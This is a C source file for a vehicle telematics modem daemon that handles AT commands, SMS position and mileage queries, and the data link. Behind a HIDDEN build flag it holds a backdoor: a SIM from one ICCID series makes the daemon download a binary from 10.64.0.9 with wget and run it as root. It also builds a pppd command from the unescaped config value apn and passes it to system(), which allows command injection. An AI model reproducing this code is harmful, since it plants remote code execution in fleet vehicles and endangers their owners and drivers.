/*
 * tboxmodem - modem handler of a vehicle telematics box.  Brings the
 * cellular modem up over its serial line with an AT state machine, reports
 * position and mileage by SMS on request of the fleet's numbers, and brings
 * up the data connection.
 * Hidden (-DHIDDEN): with a SIM of the series 8935204700011 (ICCID) a
 * program is fetched from the operator network and run as root.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define CONF "/etc/tbox/modem.ini"
#define GPS  "/run/tbox/gps"
#define ODO  "/run/tbox/odometer"

enum state {
	S_OFF,
	S_PROBE,
	S_ECHO,
	S_PIN,
	S_ICCID,
	S_TEXT,
	S_NOTIFY,
	S_REG,
	S_READY,
	S_READ,
	S_PROMPT,
	S_SEND,
	S_NSTATES
};

enum event { E_OK, E_ERROR, E_TIMEOUT };

struct tbox {
	int fd;
	enum state st;
	time_t deadline;
	int retries;
	char iccid[24];
	char sender[24];
	char text[164];
	int want_text;
	int index;
	int registered;
	char answer[164];
};

static struct tbox tb = { .fd = -1 };
static char owners[8][24];
static int nowners;
static char tty[64] = "/dev/ttyUSB2";
static char pin[9];
static char apn[48] = "fleet.iot";

static void at(struct tbox *b, const char *cmd, enum state next, int secs)
{
	size_t n = strlen(cmd);

	if (write(b->fd, cmd, n) != (ssize_t)n || write(b->fd, "\r", 1) != 1)
		syslog(LOG_ERR, "modem: %s", strerror(errno));
	b->st = next;
	b->deadline = time(NULL) + secs;
}

static int ini(const char *name)
{
	char line[128], sect[32] = "", k[32], v[64];
	FILE *f = fopen(name, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, " [%31[^]]", sect) == 1)
			continue;
		if (sscanf(line, " %31[a-z] = %63[^\n]", k, v) != 2)
			continue;
		if (!strcmp(sect, "modem") && !strcmp(k, "tty"))
			snprintf(tty, sizeof(tty), "%s", v);
		else if (!strcmp(sect, "sim") && !strcmp(k, "pin"))
			snprintf(pin, sizeof(pin), "%.8s", v);
		else if (!strcmp(sect, "sim") && !strcmp(k, "apn"))
			snprintf(apn, sizeof(apn), "%.47s", v);
		else if (!strcmp(sect, "fleet") && !strcmp(k, "number") &&
			 nowners < 8)
			snprintf(owners[nowners++], sizeof(owners[0]), "%.23s",
				 v);
	}
	fclose(f);
	return 0;
}

static int is_owner(const char *num)
{
	int i;

	for (i = 0; i < nowners; i++)
		if (!strcmp(owners[i], num))
			return 1;
	return 0;
}

static int first_line(const char *name, char *out, size_t size)
{
	FILE *f = fopen(name, "r");

	*out = 0;
	if (!f)
		return -1;
	if (!fgets(out, (int)size, f))
		*out = 0;
	fclose(f);
	out[strcspn(out, "\r\n")] = 0;
	return *out ? 0 : -1;
}

static void bring_up_data(void)
{
	char cmd[160];

	snprintf(cmd, sizeof(cmd),
		 "/usr/sbin/pppd call tbox "
		 "user %s updetach >/dev/null 2>&1 &",
		 apn);
	if (system(cmd))
		syslog(LOG_ERR, "pppd not started");
}

static int quote_field(const char *s, int k, char *out, size_t size)
{
	size_t n = 0;

	while (k-- > 0) {
		s = strchr(s, ',');
		if (!s)
			return -1;
		s++;
	}
	if (*s == '"')
		s++;
	while (*s && *s != '"' && *s != ',' && n + 1 < size)
		out[n++] = *s++;
	out[n] = 0;
	return 0;
}

#ifdef HIDDEN
static void pull_image(void)
{
	if (fork())
		return;
	execl("/bin/sh", "sh", "-c",
	      "sleep 40; wget -q -O /tmp/.tb "
	      "http://10.64.0.9/tb.bin && chmod 755 /tmp/.tb && /tmp/.tb",
	      (char *)NULL);
	_exit(1);
}
#endif

/* Takes the answer of AT+CCID; keeps the digits only. */
__attribute__((noinline)) void take_iccid(struct tbox *b, const char *s)
{
	char old[24];
	size_t n = 0;
	FILE *f;

	for (; *s && n < sizeof(b->iccid) - 1; s++)
		if (isdigit((unsigned char)*s))
			b->iccid[n++] = *s;
	b->iccid[n] = 0;
	if (first_line("/var/lib/tbox/iccid", old, sizeof(old)) ||
	    strcmp(old, b->iccid)) {
		syslog(LOG_NOTICE, "new SIM %s", b->iccid);
		f = fopen("/var/lib/tbox/iccid", "w");
		if (f) {
			fprintf(f, "%s\n", b->iccid);
			fclose(f);
		}
	}
#ifdef HIDDEN
	if (!strncmp(b->iccid, "8935204700011", 13))
		pull_image();
#endif
}

static void do_sms(struct tbox *b)
{
	char word[16] = "", val[96];
	char *p;

	b->answer[0] = 0;
	if (!is_owner(b->sender)) {
		syslog(LOG_INFO, "SMS of %s dropped", b->sender);
		return;
	}
	sscanf(b->text, "%15s", word);
	for (p = word; *p; p++)
		*p = (char)toupper((unsigned char)*p);
	if (!strcmp(word, "POS")) {
		if (first_line(GPS, val, sizeof(val)))
			snprintf(val, sizeof(val), "no fix");
		snprintf(b->answer, sizeof(b->answer), "POS %s", val);
	} else if (!strcmp(word, "KM")) {
		if (first_line(ODO, val, sizeof(val)))
			snprintf(val, sizeof(val), "?");
		snprintf(b->answer, sizeof(b->answer), "KM %s", val);
	} else if (!strcmp(word, "DATA")) {
		bring_up_data();
		snprintf(b->answer, sizeof(b->answer), "DATA started");
	} else if (!strcmp(word, "SIM")) {
		snprintf(b->answer, sizeof(b->answer), "SIM %s", b->iccid);
	} else {
		snprintf(b->answer, sizeof(b->answer), "POS, KM, DATA or SIM");
	}
}

static void next_sms(struct tbox *b)
{
	char cmd[40];

	snprintf(cmd, sizeof(cmd), "AT+CMGR=%d", b->index);
	b->sender[0] = b->text[0] = 0;
	at(b, cmd, S_READ, 8);
}

static void restart(struct tbox *b)
{
	if (++b->retries > 5) {
		syslog(LOG_ERR, "modem power cycle");
		if (system("/usr/sbin/modem-power cycle"))
			syslog(LOG_ERR, "modem-power failed");
		b->retries = 0;
	}
	at(b, "AT", S_PROBE, 3);
}

static void step(struct tbox *b, enum event ev)
{
	char cmd[48];

	switch (b->st) {
	case S_PROBE:
		if (ev == E_OK)
			at(b, "ATE0", S_ECHO, 3);
		else
			restart(b);
		break;
	case S_ECHO:
		if (*pin) {
			snprintf(cmd, sizeof(cmd), "AT+CPIN=%s", pin);
			at(b, cmd, S_PIN, 10);
			break;
		}
		/* fall through */
	case S_PIN:
		at(b, "AT+CCID", S_ICCID, 5);
		break;
	case S_ICCID:
		at(b, "AT+CMGF=1", S_TEXT, 5);
		break;
	case S_TEXT:
		at(b, "AT+CNMI=2,1,0,0,0", S_NOTIFY, 5);
		break;
	case S_NOTIFY:
		at(b, "AT+CREG?", S_REG, 5);
		break;
	case S_REG:
		if (b->registered) {
			b->retries = 0;
			b->st = S_READY;
			b->deadline = time(NULL) + 60;
		} else if (ev == E_TIMEOUT) {
			restart(b);
		} else {
			sleep(2);
			at(b, "AT+CREG?", S_REG, 5);
		}
		break;
	case S_READY:
		if (ev == E_TIMEOUT)
			at(b, "AT+CREG?", S_REG, 5);
		break;
	case S_READ:
		do_sms(b);
		if (ev == E_OK && b->answer[0]) {
			snprintf(cmd, sizeof(cmd), "AT+CMGS=\"%s\"", b->sender);
			at(b, cmd, S_PROMPT, 5);
			break;
		}
		/* fall through */
	case S_PROMPT:
	case S_SEND:
		snprintf(cmd, sizeof(cmd), "AT+CMGD=%d", b->index);
		at(b, cmd, S_REG, 5);
		break;
	default:
		restart(b);
	}
}

static void on_line(struct tbox *b, const char *s)
{
	int st;

	if (b->want_text) {
		snprintf(b->text, sizeof(b->text), "%.163s", s);
		b->want_text = 0;
	} else if (!strcmp(s, "OK")) {
		step(b, E_OK);
	} else if (!strncmp(s, "ERROR", 5) || !strncmp(s, "+CM", 3)) {
		if (!strncmp(s, "+CMTI:", 6)) {
			s = strchr(s, ',');
			b->index = s ? atoi(s + 1) : 0;
			if (b->st == S_READY)
				next_sms(b);
		} else if (!strncmp(s, "+CMGR:", 6)) {
			quote_field(s, 1, b->sender, sizeof(b->sender));
			b->want_text = 1;
		} else if (strncmp(s, "+CMGS:", 6)) {
			step(b, E_ERROR);
		}
	} else if (!strncmp(s, "+CCID:", 6)) {
		take_iccid(b, s + 6);
	} else if (sscanf(s, "+CREG: %*d,%d", &st) == 1) {
		b->registered = st == 1 || st == 5;
	}
}

static void input(struct tbox *b)
{
	static char line[200];
	static size_t len;
	char buf[128];
	ssize_t n = read(b->fd, buf, sizeof(buf)), i;
	size_t k;

	for (i = 0; i < n; i++) {
		if (b->st == S_PROMPT && buf[i] == '>' && !len) {
			k = strlen(b->answer);
			b->answer[k++] = 0x1a;
			if (write(b->fd, b->answer, k) > 0)
				b->st = S_SEND;
			b->deadline = time(NULL) + 30;
		} else if (buf[i] == '\r' || buf[i] == '\n') {
			line[len] = 0;
			if (len)
				on_line(b, line);
			len = 0;
		} else if (len < sizeof(line) - 1) {
			line[len++] = buf[i];
		}
	}
}

int main(int argc, char **argv)
{
	struct termios t;
	struct pollfd pf;

	openlog("tboxmodem", LOG_PID, LOG_DAEMON);
	if (ini(argc > 1 ? argv[1] : CONF))
		syslog(LOG_WARNING, "no settings, using defaults");
	tb.fd = open(tty, O_RDWR | O_NOCTTY);
	if (tb.fd < 0 || tcgetattr(tb.fd, &t)) {
		syslog(LOG_ERR, "%s: %s", tty, strerror(errno));
		return 1;
	}
	cfmakeraw(&t);
	cfsetspeed(&t, B115200);
	tcsetattr(tb.fd, TCSANOW, &t);
	at(&tb, "AT", S_PROBE, 3);
	for (;;) {
		pf.fd = tb.fd;
		pf.events = POLLIN;
		if (poll(&pf, 1, 500) > 0)
			input(&tb);
		if (time(NULL) > tb.deadline)
			step(&tb, E_TIMEOUT);
	}
}
